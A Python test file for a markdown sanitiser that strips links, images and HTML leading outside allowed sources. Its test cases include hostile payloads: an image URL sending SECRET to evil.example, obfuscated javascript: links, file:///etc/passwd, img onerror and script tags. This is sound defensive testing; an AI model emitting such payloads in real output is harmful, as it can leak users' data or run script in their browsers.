"""Answers that are safe to render."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crag_graph.text.citations import safe_markdown

SOURCES = ["https://good.example/p", "docs/a.md"]


def safe(text: str) -> str:
    return safe_markdown(text, allowed_urls=SOURCES)[0]


@pytest.mark.case(105)
def test_foreign_images_and_scripts_are_dropped_and_counted() -> None:
    text = "![x](https://evil.example/?q=SECRET) and [ok](javascript:alert(1))"
    assert safe_markdown(text, allowed_urls=SOURCES) == (" and ok", 2)


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://good.example/p)",
        "[a](https://GOOD.example/p/#part)",
        '[a](https://good.example/p "a title")',
        "![a](<https://good.example/p>)",
        "<https://good.example/p>",
        "[a](docs/a.md)",
        "[1]: https://good.example/p",
        "plain https://other.example/x?y=1 text",
        "a < b, c > d, x<y and [note] (aside)",
        "**bold** <b>bold</b> <br> <sub>2</sub>",
        "`[a](javascript:x)` and\n\n```html\n<img src=https://evil.example>\n```\n",
    ],
)
def test_sources_plain_text_and_code_stay(text: str) -> None:
    assert safe_markdown(text, allowed_urls=SOURCES) == (text, 0)


@pytest.mark.case(105)
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[a](https://evil.example)", "a"),
        ("[a](http://good.example/p)", "a"),
        ("[a](https://good.example/p?q=SECRET)", "a"),
        ("[a](https://good.example@evil.example/p)", "a"),
        ("[a](//good.example/p)", "a"),
        ("[a](docs/b.md)", "a"),
        ("[a](JaVaScRiPt:alert((1)))", "a"),
        ("[a](&#106;avascript:alert(1))", "a"),
        ("[a](java\tscript:x)", "[a](java\tscript:x)"),  # not a link: white space in it
        ("[a](<java script:x>)", "a"),
        ("[a](data:text/html;base64,AAAA)", "a"),
        ("[a](file:///etc/passwd)", "a"),
        (r'[a](javascript:x "t\"t")', "a"),
        (r"[a\]b](javascript:x)", r"a\]b"),
        ("[a](\njavascript:x\n)", "a"),
        ("[a [b [c]]](javascript:x)", "[a [b [c]]]"),
        ("[`code`](https://evil.example)", "`code`"),
        ("[![i](https://evil.example/i.png)](https://evil.example)", ""),
        ("[[x](https://evil.example)](https://evil.example)", "x"),
        ("[a]![x](https://evil.example)(https://evil.example)", "a"),
        (r"\`[a](javascript:x)`", r"\`a`"),
        ("[a][1]\n\n[1]: https://evil.example 'title'\n", "[a][1]\n\n"),
        ("[a][1]\n\n[1]:\n  https://evil.example\n", "[a][1]\n\n"),
        ("> [1]: https://evil.example\n", ""),
        ("<https://evil.example/x>", "https://evil.example/x"),
        ("<javascript:alert(1)>", ""),
        ("<img src=https://evil.example/x.png>", ""),
        ('<img src=x onerror="a<b">', ""),
        ('<a href="https://evil.example">t</a>', "t"),
        ("<script>alert(1)</script>", "alert(1)"),
        ('<div style="background:url(https://evil.example)">t</div>', "t</div>"),
        ('<img title="`" src="https://evil.example" alt="`"> `ok`', " `ok`"),
    ],
)  # fmt: skip
def test_what_leads_elsewhere_goes_and_its_text_stays(text: str, shown: str) -> None:
    assert safe(text) == shown


def test_an_ampersand_may_be_written_as_an_entity() -> None:
    text = "[a](https://good.example/q?x=1&amp;y=2)"
    allowed = ["https://good.example/q?x=1&y=2"]
    assert safe_markdown(text, allowed_urls=allowed) == (text, 0)


def test_a_marker_that_was_a_link_stays_a_marker() -> None:
    assert safe("It is so [1](https://evil.example).") == "It is so [1]."


def test_without_sources_nothing_is_linked() -> None:
    assert safe_markdown("[a](docs/a.md) [b](javascript:x)", allowed_urls=[]) == ("a b", 2)


def test_an_unsafe_source_is_not_a_source() -> None:
    assert safe_markdown("[a](javascript:x)", allowed_urls=["javascript:x", "http://["]) == ("a", 1)


FRAGMENTS = st.sampled_from(
    ["[", "]", "(", ")", "![", "](", "[a]", "(javascript:x)", "(https://evil.example)", "`", "``",
     "```\n", "\n", "\\", "<", ">", "<img src=x>", '"', "a", " ", "[1]: ", "\ue000", "0"]
)  # fmt: skip


@given(st.lists(FRAGMENTS, max_size=25).map("".join))
def test_no_inline_link_survives_outside_of_code(text: str) -> None:
    cleaned, removed = safe_markdown(text.replace("`", "'"), allowed_urls=SOURCES)
    assert "](javascript:x)" not in cleaned
    assert "](https://evil.example)" not in cleaned
    assert "<img src=x>" not in cleaned
    assert removed >= 0


@given(st.lists(FRAGMENTS, max_size=25).map("".join))
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    cleaned, _ = safe_markdown(text, allowed_urls=SOURCES)
    assert safe_markdown(cleaned, allowed_urls=SOURCES) == (cleaned, 0)


@pytest.mark.parametrize(
    "text",
    ["[" * 30_000, "[a](" * 20_000, "<a " * 30_000, "![" * 30_000, "[x](y " * 20_000, "<" * 30_000],
    ids=lambda text: text[:6],
)
def test_hostile_repetitions_end(text: str) -> None:
    assert safe_markdown(text, allowed_urls=[])[1] == 0


def test_links_nested_deeper_than_anybody_writes_do_not_survive() -> None:
    text = "[" * 60 + "x" + "](javascript:x)" * 60
    assert "](" not in safe(text)
